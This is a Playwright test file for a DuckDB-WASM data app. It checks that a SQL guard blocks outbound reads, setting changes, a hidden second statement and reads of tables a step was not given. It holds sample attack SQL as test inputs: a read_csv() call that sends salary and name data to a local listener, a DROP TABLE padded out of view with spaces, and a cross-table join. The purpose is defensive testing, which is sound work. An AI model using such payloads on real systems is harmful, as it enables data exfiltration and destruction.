import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { addJobStep, dropFiles, openApp, setStepParams } from './helpers';

// Issue 14: user SQL read and sent what the user never handed over. In chromium DuckDB-WASM really fetches
// http(s) paths, so a listener on 127.0.0.1 shows whether any byte leaves; the test fails if one arrives.
let server: Server;
let base = '';
const received: string[] = [];

test.beforeAll(async () => {
  server = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/csv' });
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

async function runSql(page: Page, sql: string): Promise<void> {
  await page.getByRole('textbox', { name: 'SQL query' }).fill(sql);
  await page.getByRole('button', { name: 'Run query' }).click();
}


test('the locked engine sends nothing to a listener and keeps its settings; a Sql step attack fails at its step and the table survives', async ({ page }) => {
  await openApp(page);
  await dropFiles(page, [{ name: 'salaries.csv', content: 'id,name,salary\n1,ann,90000\n2,bob,85000\n' }, { name: 'orders.csv', content: 'id,amount\n1,5\n2,7\n' }]);
  await expect(page.getByTestId('table-title')).toHaveText('orders');

  // Even the user's own SQL box cannot call out or change a global setting that a later run would see.
  await runSql(page, `SELECT * FROM read_csv('${base}/x.csv?d=ann_90000')`);
  await expect(page.getByTestId('query-error')).toContainText('disabled by configuration');
  await runSql(page, `SET custom_extension_repository='${base}/'`);
  await expect(page.getByTestId('query-error')).toContainText('Cannot change configuration option');
  await runSql(page, "SELECT lower('A') AS a, count(*) AS n FROM salaries");
  await expect(page.getByRole('grid', { name: 'Query result' }).locator('[aria-rowindex="1"]').getByRole('gridcell')).toHaveText(['a', '2']);

  // A Sql step holding the attacks of the issue: each stops at the step with the guard's message.
  await page.getByRole('link', { name: 'Transform' }).click();
  await expect(page.getByTestId('transform-input')).toHaveValue('orders');
  await page.getByTestId('step-kind').selectOption('Sql');
  await page.getByTestId('add-step').click();
  await setStepParams(page, { sql: `SELECT * FROM input${' '.repeat(400)}; DROP TABLE salaries` });
  await expect(page.getByTestId('step-failure')).toContainText('The SQL holds a second statement after ";" (DROP TABLE salaries): a Sql step runs exactly one query.');
  await setStepParams(page, { sql: 'SELECT o.*, s.salary FROM input o JOIN salaries s USING (id)' });
  await expect(page.getByTestId('step-failure')).toContainText('The SQL reads the table salaries, which is not an input of this step');
  await setStepParams(page, { sql: `SELECT * FROM read_csv('${base}/x.csv?d=' || (SELECT string_agg(name, ',') FROM input))` });
  await expect(page.getByTestId('step-failure')).toContainText('calls read_csv(), which reads files or URLs');
  await setStepParams(page, { sql: 'SELECT id, amount * 2 AS twice FROM input ORDER BY id' });
  await expect(page.getByTestId('step-failure')).toHaveCount(0);
  await expect(page.getByRole('grid', { name: 'Preview' }).locator('[aria-rowindex="2"]').getByRole('gridcell')).toHaveText(['2', '14']);

  await page.goBack();
  await runSql(page, 'SELECT count(*) AS n FROM salaries');
  await expect(page.getByRole('grid', { name: 'Query result' }).locator('[aria-rowindex="1"]').getByRole('gridcell')).toHaveText(['2']);
  expect(received).toEqual([]);
});

test('a job reads a workspace (OPFS) file through the locked engine; a Sql node that reads another table shows the refusal at the node', async ({ page }) => {
  await openApp(page);
  await page.evaluate(async () => {
    const root = await navigator.storage.getDirectory();
    const dir = await root.getDirectoryHandle('guard', { create: true });
    const file = await (await dir.getFileHandle('people.csv', { create: true })).createWritable();
    await file.write('id,name\n1,ana\n2,bo\n3,cy\n');
    await file.close();
  });
  await dropFiles(page, [{ name: 'salaries.csv', content: 'id,salary\n1,90000\n' }]);
  await expect(page.getByTestId('table-title')).toHaveText('salaries');

  await page.getByRole('link', { name: 'Jobs' }).click();
  await page.getByTestId('new-job-name').fill('guarded_job');
  await page.getByTestId('new-job').click();
  await page.getByTestId('source-location').fill('opfs://guard/people.csv');
  await page.getByTestId('add-location-source').click();
  await expect(page.getByTestId('preview-meta')).toHaveText('3 rows · 2 columns');

  await addJobStep(page, 'Sql', { sql: 'SELECT p.name, s.salary FROM input p JOIN salaries s USING (id)' });
  await expect(page.getByTestId('node-message').filter({ hasText: 'salaries' })).toHaveText('The SQL reads the table salaries, which is not an input of this step (it may read only `input`).');
  const box = page.getByTestId('node-params');
  await box.fill(JSON.stringify({ sql: 'SELECT id, upper(name) AS name FROM input WHERE id > 1 ORDER BY id' }));
  await box.blur();
  await expect(page.getByTestId('check-summary')).toHaveText('Checked: no problems found');
  await expect(page.getByTestId('preview-meta')).toHaveText('2 rows · 2 columns');
  expect(received).toEqual([]);
});
